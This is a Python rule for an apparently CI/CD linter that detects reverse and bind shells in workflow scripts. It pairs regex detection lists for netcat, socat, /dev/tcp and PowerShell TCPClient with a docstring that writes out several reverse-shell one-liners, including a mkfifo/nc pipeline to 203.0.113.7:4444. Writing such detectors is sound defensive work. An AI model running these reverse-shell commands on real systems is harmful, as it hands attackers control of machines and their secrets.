from __future__ import annotations

from cicdlint import lazyre, shell
from cicdlint.rule import Issue, rule

_SHELLS = {"sh", "bash", "zsh", "dash", "ash", "ksh", "mksh"}
_NETCATS = {"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat"}
_CLIENTS = _NETCATS | {"telnet", "socat", "openssl"}
_INTERPRETERS = lazyre.compile(r"(?:python[0-9.]*|perl|ruby|php[0-9.]*|node|lua[0-9.]*|awk|gawk)$")
_CODE_OPTIONS = {"-c", "-e", "-r", "-E", "--eval"}
_SOCKET = lazyre.compile(r"socket|fsockopen|TCPSocket|net\.connect|net\.Socket|/inet/tcp|IO::Socket|stream_socket_client"
                         r"|/dev/tcp/|\bnc\s+-\w*e", lazyre.IGNORECASE)
_AWK_NET = lazyre.compile(r"/inet/(?:tcp|udp)/")
_SPAWN = lazyre.compile(r"dup2|pty\.spawn|/bin/(?:ba|z|k|da)?sh\b|\bsh\s+-i|child_process|proc_open|\bexec\s*\(\s*['\"](?:/bin/)?(?:ba)?sh",
                        lazyre.IGNORECASE)
_POWERSHELL = lazyre.compile(r"Net\.Sockets\.TCPClient", lazyre.IGNORECASE)
_POWERSHELL_EXEC = lazyre.compile(r"\b(?:iex|Invoke-Expression)\b", lazyre.IGNORECASE)
_DEV_NET = lazyre.compile(r"/dev/(?:tcp|udp)/([^/\s]+)/")
_LOCAL_HOSTS = ("localhost", "127.", "0.0.0.0", "::1")
# Scripts without one of these cannot hold a reverse shell: most are skipped without parsing.
_HINT = lazyre.compile(r"\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd|pwncat|telnet|socat)\b|/dev/(?:tcp|udp)/|/inet/(?:tcp|udp)/|socket|s_client",
                       lazyre.IGNORECASE)


@rule(
    id="reverse-shell",
    kinds=("workflow", "action"),
    severity="error",
    summary="A script opens a shell that a remote host controls (a reverse or bind shell)",
    tags=("security",),
    security_severity=9.0,
    confidence="high",
)
def check(doc, ctx):
    """## What it does
    Finds `run:` scripts (and SSH action scripts) that hand a shell to the network:

    - netcat with an exec option: `nc -e /bin/sh host 4444`, `ncat --sh-exec ...`,
      `nc -c bash host port`;
    - a pipeline that joins a shell and a network client: `cat /tmp/f | sh -i 2>&1 | nc host
      port > /tmp/f`, `telnet host 4444 | /bin/bash | telnet host 4445`,
      `openssl s_client -connect host:443 | sh`;
    - a shell whose input or output is a `/dev/tcp` socket: `bash -i >& /dev/tcp/1.2.3.4/4444
      0>&1`, `exec 5<>/dev/tcp/host/port` then `sh <&5 >&5`;
    - `socat` connecting a socket to `exec:` / `system:` running a shell;
    - interpreter one-liners that connect a socket and attach a shell
      (`python -c 'import socket,os,pty;...;pty.spawn("/bin/sh")'`, `perl -e 'use Socket;...'`,
      `php -r '$s=fsockopen(...);exec("/bin/sh -i <&3 >&3")'`, `ruby -rsocket -e ...`);
    - PowerShell scripts that open a `Net.Sockets.TCPClient` and run what it reads with
      `iex` / `Invoke-Expression`.

    Also inside `$(...)`, `bash -c '...'`, `ssh host '...'` and heredocs. Port checks are not
    reported: `nc -z host 5432`, `timeout 1 bash -c '</dev/tcp/localhost/5432'`,
    `echo stats | nc localhost 11211` (checkov's CKV_GHA_4 fails any `nc` followed by an IP
    address, port checks included).

    ## Why is this bad?
    A reverse shell gives whoever listens at the other end an interactive shell on the runner,
    inside the job: with its secrets, its `GITHUB_TOKEN`, the checked-out code and, on a
    self-hosted runner, the machine and the network it sits in. There is no debugging need a
    workflow cannot meet in another way; a line like this is almost always an attack (or a
    test of one) that someone slipped in.

    ## Example
    ```yaml
    steps:
      - run: |
          rm -f /tmp/f; mkfifo /tmp/f
          cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f
    ```

    ## Use instead
    Remove the step, rotate every secret the workflow can reach, and find out how it got
    there. To debug a run interactively, re-run the job with debug logging, or use a debugging
    action pinned to a commit SHA that only the repository's collaborators can connect to
    (e.g. `mxschmitt/action-tmate` with `limit-access-to-actor: true`), never in workflows that
    pull requests from forks can start.
    """
    for step in ctx.steps():
        for scalar, _where in step.scripts():
            script = scalar.value
            if _POWERSHELL.search(script) and _POWERSHELL_EXEC.search(script):
                match = _POWERSHELL.search(script)
                yield Issue(ctx.locate(scalar, match.start(), match.end() - match.start()),
                            "This script opens a TCP connection and runs what it receives with Invoke-Expression: a "
                            "PowerShell reverse shell. Remove it and rotate the secrets this workflow can reach.")
                continue
            if not _HINT.search(script):
                continue
            seen = set()
            for command, reason in _findings(script):
                if command.start in seen:
                    continue
                seen.add(command.start)
                span = ctx.locate(scalar, command.start, max(1, command.end - command.start))
                yield Issue(span, f"{reason} Remove it and rotate the secrets this workflow can reach.")


def _name(words) -> str:
    return words[0].value.rsplit("/", 1)[-1] if words else ""


def _unwrap(words):
    """`busybox nc ...` runs `nc ...`."""
    return words[1:] if words and _name(words) == "busybox" else words


def _findings(script: str):
    nested = shell.parse_nested(script)
    socket_fds = {}  # fd opened on /dev/tcp or /dev/udp -> host
    pipelines: dict[tuple, list] = {}  # the open pipeline of each nesting level
    for item in nested:
        command = item.command
        words = _unwrap(shell.strip_wrappers(command.words))
        name = _name(words)
        for redirect in command.redirects:
            target = redirect.target.value if redirect.target else ""
            host = _remote_socket(target)
            if host and redirect.op in ("<>", ">", "<") and redirect.fd.isdigit() and not words:
                socket_fds[redirect.fd] = host  # `exec 5<>/dev/tcp/host/port`
        reason = _netcat_exec(name, words) or _socat_exec(name, words) or _interpreter(name, words)
        if reason is None and name in _SHELLS and _shell_reads_stdin(words):
            reason = _shell_on_socket(command, socket_fds)
        if reason is not None:
            yield command, reason
        level = tuple(id(parent) for parent in item.parents)
        pipeline = pipelines.setdefault(level, [])
        pipeline.append((command, name, words))
        if not command.piped_out:
            found = _pipeline(pipeline)
            if found is not None:
                yield found
            pipelines[level] = []


def _remote_socket(target: str) -> str | None:
    match = _DEV_NET.match(target)
    if match is None:
        return None
    host = match.group(1)
    return None if host.startswith(_LOCAL_HOSTS) else host


def _netcat_exec(name: str, words) -> str | None:
    if name not in _NETCATS:
        return None
    args = [word.value for word in words[1:]]
    for index, arg in enumerate(args):
        if arg in ("--exec", "--sh-exec", "--lua-exec") or arg.startswith(("--exec=", "--sh-exec=", "--lua-exec=")):
            return f"`{name} {arg.split('=')[0]}` runs a program with its standard input and output connected to the network: a reverse shell."
        if arg.startswith("-") and not arg.startswith("--"):
            letters = arg[1:]
            if "e" in letters:
                return f"`{name} -e` runs a program with its standard input and output connected to the network: a reverse shell."
            if letters.endswith("c") and index + 1 < len(args) and args[index + 1].split()[0].rsplit("/", 1)[-1] in _SHELLS:
                return f"`{name} -c {args[index + 1]}` runs a shell connected to the network: a reverse shell."
    return None


def _socat_exec(name: str, words) -> str | None:
    if name != "socat":
        return None
    addresses = [word.value.lower() for word in words[1:] if not word.value.startswith("-")]
    runs = next((a for a in addresses if a.startswith(("exec:", "system:"))), None)
    network = any(a.startswith(("tcp", "udp", "openssl", "ssl")) for a in addresses)
    if runs is None or not network:
        return None
    program = runs.split(":", 1)[1].strip("'\"").split(",")[0].split()
    if runs.startswith("system:") or (program and program[0].rsplit("/", 1)[-1] in _SHELLS):
        return "`socat` connects a shell to a network socket: a reverse (or bind) shell."
    return None


def _interpreter(name: str, words) -> str | None:
    if not _INTERPRETERS.fullmatch(name):
        return None
    if name in ("awk", "gawk"):
        program = next((word.value for word in words[1:] if not word.value.startswith("-")), "")
        if _AWK_NET.search(program):
            return f"This `{name}` program opens a network connection (`/inet/tcp/`) to run what it receives: a reverse shell."
        return None
    for index, word in enumerate(words[1:-1], start=1):
        value = word.value
        if value in _CODE_OPTIONS or (value.startswith("-") and value[-1:] in ("c", "e", "r") and len(value) <= 4):
            code = words[index + 1].value
            if _SOCKET.search(code) and _SPAWN.search(code):
                return f"This `{name}` one-liner connects a socket and attaches a shell to it: a reverse shell."
    return None


def _shell_reads_stdin(words) -> bool:
    """A shell with no script or `-c` command: it runs what it reads (`sh`, `sh -i`, `bash -s`)."""
    for word in words[1:]:
        value = word.value
        if value.startswith("-") and not value.startswith("--"):
            if "c" in value[1:]:
                return False
            continue
        if value.startswith("--"):
            continue
        return False
    return True


def _shell_on_socket(command, socket_fds: dict) -> str | None:
    for redirect in command.redirects:
        target = redirect.target.value if redirect.target else ""
        host = _remote_socket(target)
        if host is None and target.lstrip("&") in socket_fds and ("&" in redirect.op or target.startswith("&")):
            host = socket_fds[target.lstrip("&")]
        if host is not None:
            return f"This shell reads from or writes to a network socket ({host}): a reverse shell."
    return None


def _pipeline(pipeline: list):
    """A pipeline that joins a shell reading its input and a network client."""
    if len(pipeline) < 2:
        return None
    shells = [index for index, (_, name, words) in enumerate(pipeline) if name in _SHELLS and _shell_reads_stdin(words)]
    clients = [index for index, (_, name, words) in enumerate(pipeline) if _is_client(name, words)]
    if not shells or not clients:
        return None
    command, name, _ = pipeline[clients[0]]
    return command, (f"This pipeline connects a shell to `{name}`, so a remote host sends the commands it runs: a "
                     "reverse shell.")


def _is_client(name: str, words) -> bool:
    if name in _NETCATS:
        args = [word.value for word in words[1:]]
        if any(arg.startswith("-") and "z" in arg[1:] and not arg.startswith("--") for arg in args):
            return False  # `nc -z`: a port scan, sends nothing
        hosts = [arg for arg in args if not arg.startswith("-")]
        return not any(host.startswith(_LOCAL_HOSTS) for host in hosts[:1])
    if name == "telnet":
        return True
    if name == "openssl":
        return len(words) > 1 and words[1].value == "s_client"
    if name == "socat":
        return True
    return False
